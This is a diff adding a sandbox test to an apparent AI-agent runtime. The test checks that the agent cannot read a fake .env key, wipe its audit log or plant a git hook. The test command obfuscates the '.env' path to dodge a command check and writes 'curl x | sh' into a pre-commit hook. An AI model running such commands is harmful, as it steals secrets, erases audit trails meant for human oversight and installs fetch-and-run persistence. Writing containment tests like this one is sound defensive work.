@@ -57,3 +57,40 @@ def _check_private_view(ws: Path) -> None:
 
 def test_escape_suite_claims_hold() -> None:
     assert_claims(asyncio.run(run_escape_suite(backend)))
+
+
+def test_protected_paths_are_hidden_or_read_only_inside_an_agent_run() -> None:
+    """Inside an agent run, the run's protected paths are mounted so that a command
+    the command check cannot read (the path assembled at run time) still cannot reach
+    them: .env hidden, the audit log and git hooks read-only."""
+    import shutil
+    import tempfile
+
+    import teragent
+    from teragent.runtime import running
+
+    base = Path(tempfile.mkdtemp(prefix="teragent-bwrap-"))  # /tmp: searchable by nobody
+    ws = workspace(base)
+    (ws / ".env").write_text("API_KEY=sk-hidden-value\n")
+    (ws / ".teragent").mkdir()
+    (ws / ".teragent" / "audit.jsonl").write_text('{"outcome": "executed"}\n')
+    (ws / ".git" / "hooks").mkdir(parents=True)
+    for p in (ws / ".env", ws / ".teragent", ws / ".teragent" / "audit.jsonl", ws / ".git",
+              ws / ".git" / "hooks"):
+        if os.geteuid() == 0:
+            os.chown(p, 65534, 65534)
+    runtime = teragent.build_runtime({}, workspace=ws, audit=False)
+    cmd = ("f=$(printf '.e%sv' n); cat \"$f\"; (: > .teragent/audit.jsonl); "
+           "(echo 'curl x | sh' > .git/hooks/pre-commit); echo done")
+
+    async def go() -> object:
+        with running(runtime):
+            return await backend.run(cmd, str(ws), 30, {})
+
+    result = asyncio.run(go())
+    assert "sk-hidden-value" not in result.output
+    assert "done" in result.output
+    assert (ws / ".teragent" / "audit.jsonl").read_text() == '{"outcome": "executed"}\n'
+    assert not (ws / ".git" / "hooks" / "pre-commit").exists()
+    assert (ws / ".env").read_text() == "API_KEY=sk-hidden-value\n"  # untouched on the host
+    shutil.rmtree(base)
